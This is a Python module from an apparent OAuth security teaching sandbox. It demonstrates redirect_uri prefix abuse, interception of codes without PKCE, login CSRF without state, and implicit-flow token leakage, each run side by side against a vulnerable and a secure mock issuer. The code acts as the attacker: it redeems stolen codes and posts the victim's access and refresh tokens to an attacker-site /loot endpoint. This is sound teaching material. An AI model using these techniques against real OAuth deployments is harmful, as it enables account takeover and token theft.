"""Secure and vulnerable, side by side: each attack against a VULNERABLE and a secure issuer.

Each attack page runs the same flow twice. Against the mock provider's deliberately vulnerable
issuer (`/scenarios/vulnerable-...`, one weakened check) the attack succeeds: the attacker's site
(`attacker.py`) catches the authorization code, and the attacker, played by this module, redeems
it for the user's tokens. Against the default issuer the same moves fail, and the page quotes the
check that stopped them from the provider's request log. Authlib builds the authorization URL
(with PKCE) and makes the token request, as everywhere else in the sandbox.
"""

from __future__ import annotations

import threading
from dataclasses import dataclass, field
from typing import Any
from urllib.parse import urlsplit

import requests
from authlib.common.security import generate_token
from authlib.integrations.base_client import OAuthError

from . import instructor_token, scenarios
from .answers import UnusableAnswer, json_object
from .config import SandboxConfig
from .discovery import WELL_KNOWN, DiscoveryError, discover
from .provider_client import ClientCredentials, Registrations, oauth_session
from .recorder import Run

SCOPE = "openid profile email photos.read"
SETTINGS = ("vulnerable", "secure")


@dataclass(frozen=True)
class Attack:
    """One attack: the VULNERABLE issuer it needs, and how the victim's client is set up."""

    id: str  # kebab-case, in the page's URL
    title: str
    scenario: str  # the catalogue id of the VULNERABLE issuer
    story: str  # what the attacker does, in plain words
    trick: str  # one sentence: why it works; {registered}, {redirect_uri}, {attacker} filled in
    stopped_by: str  # what stops it under the secure issuer
    #: (sandbox config) -> (the redirect_uris the victim's client registers, the one the
    #: authorization request sends)
    redirect_uris: Any
    #: Who holds the PKCE code_verifier: "attacker" (it built the request), "client" (the
    #: victim's client; only under the secure issuer: the vulnerable one lets it skip PKCE).
    verifier_held_by: str
    #: Who is deliberately weakened: "provider" (the VULNERABLE issuer `scenario`) or "client"
    #: (this sandbox's own client, under the default issuer; `scenario` is then empty).
    vulnerable: str = "provider"
    #: What the victim's client asks for: "code", or "token" (the implicit flow, which hands
    #: the access token itself to the browser: there is no code to redeem).
    response_type: str = "code"


def _prefix_uris(config: SandboxConfig) -> tuple[list[str], str]:
    attacker = urlsplit(config.attacker_base_url).netloc
    return [config.base_url], f"{config.base_url}@{attacker}/steal"


def _intercepted_uris(config: SandboxConfig) -> tuple[list[str], str]:
    uri = f"{config.attacker_base_url}/intercepted"
    return [uri], uri


def _own_uris(config: SandboxConfig) -> tuple[list[str], str]:
    return [config.redirect_uri], config.redirect_uri


def _victim_app_uris(config: SandboxConfig) -> tuple[list[str], str]:
    uri = f"{config.base_url}/attacks/implicit-flow/app"
    return [uri], uri


ATTACKS: dict[str, Attack] = {
    attack.id: attack
    for attack in (
        Attack(
            id="redirect-prefix",
            title="Lenient redirect_uri matching sends the code to the attacker",
            scenario="vulnerable-redirect-prefix",
            story="The victim's client registered its site's origin as its redirect URI. The "
            "attacker builds an authorization request with that client's client_id, a "
            "code_challenge of the attacker's own, and a redirect_uri of the attacker's choosing, "
            "and lures the signed-in victim into following it.",
            trick="The attacker's redirect_uri {redirect_uri} starts with the registered "
            "{registered}, but everything before the @ is a user name, so the browser goes to "
            "{attacker}: the attacker's site.",
            stopped_by="redirect_uri exact match",
            redirect_uris=_prefix_uris,
            verifier_held_by="attacker",
        ),
        Attack(
            id="pkce-optional",
            title="Without PKCE, an intercepted code is redeemed by the attacker",
            scenario="vulnerable-pkce-optional",
            story="A public client (a mobile app) sends the user to the provider. A malicious "
            "app that claimed the same redirect URI scheme intercepts the redirect and, holding "
            "the code, redeems it with the public client_id: a public client has no secret.",
            trick="Here the attacker's site plays the malicious app: the operating system hands "
            "it the redirect, as it may when two apps claim one custom URI scheme.",
            stopped_by="PKCE",
            redirect_uris=_intercepted_uris,
            verifier_held_by="client",
        ),
        Attack(
            id="login-csrf",
            title="Without state, the attacker's code signs the victim in as the attacker",
            scenario="",
            story="The attacker signs in at the provider with their own account (bob) through "
            "this sandbox's client, stops before the redirect back, and keeps the code. Their "
            "site then lures the victim's browser to the client's redirect_uri with that code.",
            trick="The lure goes to {redirect_uri}, the client's own redirect_uri: a client "
            "that sent no state cannot tell that this response answers nobody's request here.",
            stopped_by="state",
            redirect_uris=_own_uris,
            verifier_held_by="nobody",  # the classic client: a client secret, no PKCE
            vulnerable="client",
        ),
        Attack(
            id="implicit-flow",
            title="The implicit flow leaks the access token through the URL",
            scenario="vulnerable-implicit",
            story="A single-page app asks for the access token itself (response_type=token), "
            "as OAuth 2.0's implicit flow allowed. The provider puts the token in the fragment "
            "of the app's address. Like many sites, the app's page loads a third-party analytics "
            "script, which reports each page's full address to its owner: here, the attacker.",
            trick="The token arrives as {redirect_uri}#access_token=...: the fragment never "
            "reaches a server, but it stays in the address bar and the browser's history, and "
            "every script on the page reads it from location.href.",
            stopped_by="response_type supported",
            redirect_uris=_victim_app_uris,
            verifier_held_by="nobody",  # no code, so nothing for PKCE to bind
            response_type="token",
        ),
    )
}


def trick(attack: Attack, config: SandboxConfig) -> str:
    """The attack's one-sentence explanation, with this sandbox's real URLs."""
    registered, redirect_uri = attack.redirect_uris(config)
    attacker = urlsplit(config.attacker_base_url).netloc
    return attack.trick.format(
        registered=registered[0], redirect_uri=redirect_uri, attacker=attacker
    )


@dataclass
class AttackRun:
    """One pass of an attack under one setting: the lure, what was caught, what it bought."""

    attack: Attack
    setting: str  # "vulnerable" or "secure"
    run: Run  # provider metadata, the victim client's credentials, recorded exchanges
    authorization_url: str = ""
    state: str = ""
    redirect_uri: str = ""
    attacker_verifier: str | None = None  # the verifier the attacker knows, if any
    stolen: dict[str, str] | None = None  # the query the attacker's site caught (or kept)
    lure: str = ""  # login CSRF: the attacker's page that lures the victim (login_csrf.py)
    tokens: dict[str, Any] | None = None
    userinfo: dict[str, Any] | None = None
    blocked: list[dict[str, Any]] = field(default_factory=list)  # failed provider checks
    outcome: str = ""


class AttackRuns:
    """The latest run of each attack and setting, per learner."""

    def __init__(self) -> None:
        self._runs: dict[tuple[str, str, str], AttackRun] = {}
        self._lock = threading.Lock()

    def put(self, learner: str, attack_run: AttackRun) -> None:
        with self._lock:
            self._runs[(learner, attack_run.attack.id, attack_run.setting)] = attack_run

    def get(self, learner: str, attack_id: str, setting: str) -> AttackRun | None:
        with self._lock:
            return self._runs.get((learner, attack_id, setting))


class AttackUnavailable(Exception):
    """The attack cannot run; the message says why and what to do."""


def start(
    attack: Attack, setting: str, config: SandboxConfig, registrations: Registrations
) -> AttackRun:
    """Register the victim's client at the setting's issuer and build the link to follow."""
    issuer = _issuer(attack, setting, config)
    run = Run(flow="authorization-code", variant="public-pkce", issuer=issuer)
    try:
        run.provider = discover(issuer, run)
    except DiscoveryError as error:
        raise AttackUnavailable(str(error)) from None
    registered, redirect_uri = attack.redirect_uris(config)
    run.credentials = _victim_client(attack, setting, run, registered, registrations)
    attack_run = AttackRun(
        attack, setting, run, state=generate_token(16), redirect_uri=redirect_uri
    )
    # Under the vulnerable issuer the pkce-optional victim skips PKCE, as legacy apps do; the
    # implicit flow has no code for PKCE to bind.
    uses_pkce = attack.response_type == "code" and not (
        attack.verifier_held_by == "client" and setting == "vulnerable"
    )
    verifier = generate_token(48) if uses_pkce else None
    attack_run.attacker_verifier = verifier if attack.verifier_held_by == "attacker" else None
    session = _session(attack_run, "authorization_request", pkce=uses_pkce)
    extra = {"code_verifier": verifier} if verifier else {}
    attack_run.authorization_url, _ = session.create_authorization_url(
        run.provider.authorization_endpoint,
        state=attack_run.state,
        nonce=generate_token(16),
        response_type=attack.response_type,
        **extra,
    )
    return attack_run


def _victim_client(
    attack: Attack, setting: str, run: Run, registered: list[str], registrations: Registrations
) -> ClientCredentials:
    """The victim's public client at the run's issuer, registered once (RFC 7591).

    An implicit-flow client registers for the implicit grant where the provider offers it;
    the secure provider, like any OAuth 2.1 provider, registers only code clients, so there
    the legacy app asks for response_type=token with a code client, and is refused.
    """
    kind = f"victim-{attack.id}"
    implicit = attack.response_type == "token" and setting == "vulnerable"
    return registrations.get(run.provider, kind) or registrations.register(
        run.provider,
        run,
        kind,
        {
            "client_name": f"the victim's client ({attack.id} demo)",
            "redirect_uris": registered,
            "grant_types": ["implicit"] if implicit else ["authorization_code"],
            "response_types": ["token"] if implicit else ["code"],
            "scope": SCOPE,
            "token_endpoint_auth_method": "none",  # a public client: no secret to steal
        },
    )


def _issuer(attack: Attack, setting: str, config: SandboxConfig) -> str:
    """The VULNERABLE scenario's issuer from the provider's catalogue, or the default one."""
    if setting == "secure":
        return config.issuer
    try:
        scenario = scenarios.find(config.issuer, attack.scenario)
    except scenarios.ScenariosUnavailable as error:
        raise AttackUnavailable(str(error)) from None
    if scenario is None:
        raise AttackUnavailable(f"The provider offers no {attack.scenario} issuer.")
    try:
        response = requests.get(
            scenario.issuer + WELL_KNOWN, headers=instructor_token.vulnerable_issuers(), timeout=10
        )
    except requests.RequestException:
        return scenario.issuer  # discovery, next, says what is wrong
    if response.status_code == 403:  # beyond loopback, without the instructor token
        try:
            refusal = json_object(response, f"The VULNERABLE issuer {scenario.issuer}")
        except UnusableAnswer as error:
            raise AttackUnavailable(str(error)) from None
        description = refusal.get("error_description")
        raise AttackUnavailable(description if isinstance(description, str) else "403 Forbidden")
    return scenario.issuer


def redeem(attack_run: AttackRun, config: SandboxConfig) -> None:
    """Play the attacker: find the code (or token) the site caught, redeem it, use the tokens."""
    attack_run.stolen = _caught(attack_run, config)
    code = (attack_run.stolen or {}).get("code")
    if access_token := (attack_run.stolen or {}).get("access_token"):
        # The implicit flow: the site caught the token itself; there is nothing to redeem.
        attack_run.tokens = {"access_token": access_token, "token_type": "Bearer"}
    elif code:
        session = _session(attack_run, "token_request", pkce=False)
        extra = (
            {"code_verifier": attack_run.attacker_verifier} if attack_run.attacker_verifier else {}
        )
        try:
            attack_run.tokens = dict(
                session.fetch_token(
                    attack_run.run.provider.token_endpoint,
                    code=code,
                    redirect_uri=attack_run.redirect_uri,
                    **extra,
                )
            )
        except OAuthError as error:
            attack_run.outcome = f"{error.error}: {error.description}"
    if attack_run.tokens:
        response = _session(attack_run, "userinfo_request", pkce=False).get(
            attack_run.run.provider.userinfo_endpoint, timeout=10
        )
        # A strange answer stops here with UnusableAnswer: the page says what came.
        attack_run.userinfo = (
            json_object(response, "The userinfo endpoint") if response.ok else None
        )
        who = (attack_run.userinfo or {}).get("preferred_username") or "the user"
        attack_run.outcome = f"The attack succeeded: the attacker holds {who}'s tokens."
        _report_loot(attack_run, config)
    else:
        attack_run.blocked = _failed_checks(attack_run)
        attack_run.outcome = attack_run.outcome or (
            "The attacker's site caught no token."
            if attack_run.attack.response_type == "token"
            else "The attacker's site caught no code."
        )


def _caught(attack_run: AttackRun, config: SandboxConfig) -> dict[str, str] | None:
    """The query of the request the attacker's site received for this run's state."""
    url = f"{config.attacker_base_url}/log"
    try:
        log = json_object(requests.get(url, timeout=10), f"The attacker's site at {url}")
    except requests.RequestException as error:
        raise AttackUnavailable(
            f"The attacker's site at {config.attacker_base_url} cannot be reached "
            f"({type(error).__name__}). `oauth-sandbox run` starts it beside the sandbox."
        ) from None
    except UnusableAnswer as error:
        raise AttackUnavailable(str(error)) from None
    requests_seen = log.get("requests")
    if not isinstance(requests_seen, list):
        raise AttackUnavailable(f"The attacker's site at {url} answered no list of requests.")
    queries = [e.get("query") for e in requests_seen if isinstance(e, dict)]
    return next(
        (
            query
            for query in reversed(queries)
            if isinstance(query, dict) and query.get("state") == attack_run.state
        ),
        None,
    )


def _failed_checks(attack_run: AttackRun) -> list[dict[str, Any]]:
    """The provider's failed checks for this run's requests, from its request log."""
    control = attack_run.run.provider.control_api
    if not control:
        return []
    client_id = attack_run.run.credentials.client_id
    try:
        response = requests.get(
            f"{control}/log",
            params={"client_id": client_id},
            headers=instructor_token.bearer(),
            timeout=10,
        )
        entries = json_object(response, "The control API's request log")
    except (requests.RequestException, UnusableAnswer):
        return []  # the page still says how the attack ended, without the provider's checks
    # This run's requests: its authorization request (by state) and the code's redemption.
    ours = {("state", attack_run.state)}
    if code := (attack_run.stolen or {}).get("code"):
        ours.add(("code", code))
    try:
        return [
            {**check, "request": entry["request"], "status": entry["status"]}
            for entry in entries.get("entries", [])
            if ours & {(name, entry["params"].get(name)) for name in ("state", "code")}
            for check in entry["checks"]
            if not check["passed"]
        ][:3]
    except (KeyError, TypeError, AttributeError):
        return []  # a log not shaped as the mock provider's: no checks to quote


def _report_loot(attack_run: AttackRun, config: SandboxConfig) -> None:
    tokens = attack_run.tokens or {}
    loot = {
        "what": f"tokens for {(attack_run.userinfo or {}).get('preferred_username', 'the user')} "
        f"({attack_run.attack.id}, {attack_run.setting} issuer)",
        "access_token": tokens.get("access_token", ""),
        "refresh_token": tokens.get("refresh_token", ""),
    }
    try:
        requests.post(f"{config.attacker_base_url}/loot", json=loot, timeout=10)
    except requests.RequestException:
        pass  # the page shows the tokens anyway; the attacker's dashboard merely lacks them


def _session(attack_run: AttackRun, step: str, pkce: bool):
    credentials: ClientCredentials = attack_run.run.credentials
    return oauth_session(
        attack_run.run,
        step,
        credentials,
        scope=SCOPE,
        redirect_uri=attack_run.redirect_uri,
        token=attack_run.tokens,
        code_challenge_method="S256" if pkce else None,
    )
